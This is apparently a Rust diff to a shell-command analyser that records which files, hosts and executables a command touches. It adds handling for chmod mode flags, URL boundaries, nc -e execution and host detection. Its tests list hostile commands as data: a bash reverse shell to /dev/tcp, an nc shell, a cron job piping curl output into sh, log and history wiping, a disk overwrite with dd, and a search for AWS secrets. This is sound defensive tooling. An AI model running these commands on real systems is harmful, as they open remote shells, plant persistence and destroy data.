@@ -4,6 +4,7 @@ use std::net::IpAddr;
 
 use super::ast::{Command, Compound};
 use super::operand_use::{Use, cluster_output, takes_word, use_of, writes_to};
+use super::roles::Role;
 
 /// One thing that a command names.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -85,7 +86,7 @@ pub const MAX_OPERANDS: usize = 64;
 /// [`Access::Mentioned`].
 pub fn operands(command: &Command) -> Vec<Operand<'_>> {
     let mut found = Vec::new();
-    if command.path().contains('/') && !command.path().contains("$(") {
+    if command.path().contains('/') && !command.path().starts_with('[') && !command.path().contains("$(") {
         found.push(path(command.path(), Access::Executed));
     }
     for redirection in &command.redirections {
@@ -167,7 +168,9 @@ fn url(text: &str) -> Option<Operand<'_>> {
         text[..at].rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))).map_or(0, |i| i + 1);
     // The character before the scheme may be wider than a byte.
     let begin = (begin..at).find(|i| text.is_char_boundary(*i))?;
-    let text = &text[begin..];
+    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '|' | ';' | '<' | '>' | ')');
+    let end = text[at..].find(ends).map_or(text.len(), |length| at + length);
+    let text = &text[begin..end];
     let scheme = &text[..at - begin];
     let authority = text[at - begin + 3..].split(['/', '?', '#']).next().unwrap_or("");
     let (host, port) = host_and_port(authority);
@@ -210,7 +213,8 @@ fn arguments<'a>(command: &'a Command, found: &mut Vec<Operand<'a>>) {
         if covered(at) || is_code(text) {
             continue;
         }
-        if text.len() > 1 && text.starts_with(['-', '+']) {
+        let mode = family == "chmod" && plain.is_empty() && is_mode_change(text);
+        if text.len() > 1 && text.starts_with('-') && !mode {
             let (name, value) = match text.split_once('=') {
                 Some((name, value)) => (name, Some(value)),
                 None => (text, None),
@@ -233,7 +237,9 @@ fn arguments<'a>(command: &'a Command, found: &mut Vec<Operand<'a>>) {
             } else if takes_word(family, name)
                 && let Some((_, value)) = words.next()
             {
-                found.extend(classify(value.trim_start_matches('@'), Access::Read));
+                let access =
+                    if family == "nc" && matches!(name, "-e" | "-c") { Access::Executed } else { Access::Read };
+                found.extend(classify(value.trim_start_matches('@'), access));
             }
             continue;
         }
@@ -251,7 +257,8 @@ fn arguments<'a>(command: &'a Command, found: &mut Vec<Operand<'a>>) {
         plain.push(text);
     }
     if usage == Use::Hosts {
-        return hosts(&plain, found);
+        let names = !matches!(command.role(), Role::Download | Role::Upload);
+        return hosts(&plain, names, found);
     }
     let last = plain.len().saturating_sub(1);
     for (at, text) in plain.into_iter().enumerate() {
@@ -266,7 +273,7 @@ fn arguments<'a>(command: &'a Command, found: &mut Vec<Operand<'a>>) {
         };
         match classify(text, access) {
             Some(operand) => found.push(operand),
-            None if access == Access::Mentioned || text == "-" || text.is_empty() => {}
+            None if access == Access::Mentioned || text == "-" || text.is_empty() || family == "sed" => {}
             None if matches!(family, "scp" | "rsync" | "sftp") && text.contains(':') => {
                 let host = host_and_port(text).0;
                 found.push(Operand { kind: OperandKind::Host { host, port: None }, text, access: Access::Contacted });
@@ -276,8 +283,16 @@ fn arguments<'a>(command: &'a Command, found: &mut Vec<Operand<'a>>) {
     }
 }
 
-/// Operands of programs that talk to hosts: a host, and perhaps a port after it.
-fn hosts<'a>(plain: &[&'a str], found: &mut Vec<Operand<'a>>) {
+/// `+x`, `-w`: what `chmod` does, not an option of it.
+fn is_mode_change(text: &str) -> bool {
+    text.len() > 1
+        && text.starts_with(['-', '+'])
+        && text.bytes().skip(1).all(|b| matches!(b, b'r' | b'w' | b'x' | b'X' | b's' | b't'))
+}
+
+/// Operands of programs that talk to hosts: a host, and perhaps a port after it. Without `names`,
+/// a word without a dot is no host (words of a header whose quotes were lost).
+fn hosts<'a>(plain: &[&'a str], names: bool, found: &mut Vec<Operand<'a>>) {
     let mut before_host = true;
     let mut words = plain.iter().copied().peekable();
     while let Some(text) = words.next() {
@@ -289,7 +304,7 @@ fn hosts<'a>(plain: &[&'a str], found: &mut Vec<Operand<'a>>) {
                 before_host = false;
             }
             Some(operand) => found.push(operand),
-            None if before_host && looks_like_host(text) => {
+            None if before_host && looks_like_host(text) && (names || text.contains('.') || text == "localhost") => {
                 let (host, port) = host_and_port(text.split('/').next().unwrap_or(text));
                 let next = words.next_if(|next| port.is_none() && next.parse::<u16>().is_ok());
                 let port = port.or_else(|| next.and_then(|next| next.parse().ok()));
@@ -350,7 +365,7 @@ mod tests {
         check("wget -q -O- http://x.example/a", &["c:x.example"]);
         check("wget http://x.example/a -O /tmp/a", &["w:/tmp/a", "c:x.example"]);
         check("bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", &["c:198.51.100.23:4444"]);
-        check("nc 198.51.100.7 4444 -e /bin/sh", &["r:/bin/sh", "c:198.51.100.7:4444"]);
+        check("nc 198.51.100.7 4444 -e /bin/sh", &["x:/bin/sh", "c:198.51.100.7:4444"]);
         check("nc -zv localhost 8500", &["c:localhost:8500"]);
         check("ssh -p 443 git@198.51.100.9", &["c:198.51.100.9"]);
         check("ping -c 1 127.0.0.1", &["c:127.0.0.1"]);
@@ -359,6 +374,12 @@ mod tests {
         check("mv a /b", &["w:a", "w:/b"]);
         check("rm -rf /var/log ~/.bash_history", &["w:/var/log", "w:~/.bash_history"]);
         check("chmod u+s /tmp/hello", &["w:/tmp/hello"]);
+        check("chmod +x /tmp/a b", &["w:/tmp/a", "w:b"]);
+        check("chmod -R 777 /tmp/a", &["w:/tmp/a"]);
+        check("curl -H Authorization: Bearer AQ http://10.96.0.1/api", &["c:10.96.0.1"]);
+        check("sh -c echo '* * * * * curl http://h.example:8220/a | sh' > /c", &["w:/c", "c:h.example:8220"]);
+        check("[kworker/0:0]", &[]);
+        check("ssh db1", &["c:db1"]);
         check("dd if=/dev/zero of=/dev/sda bs=1M", &["r:/dev/zero", "w:/dev/sda"]);
         check("sed -i s/a/b/ /etc/hosts", &["w:/etc/hosts"]);
         check("grep -rn aws_secret /home", &["r:/home"]);
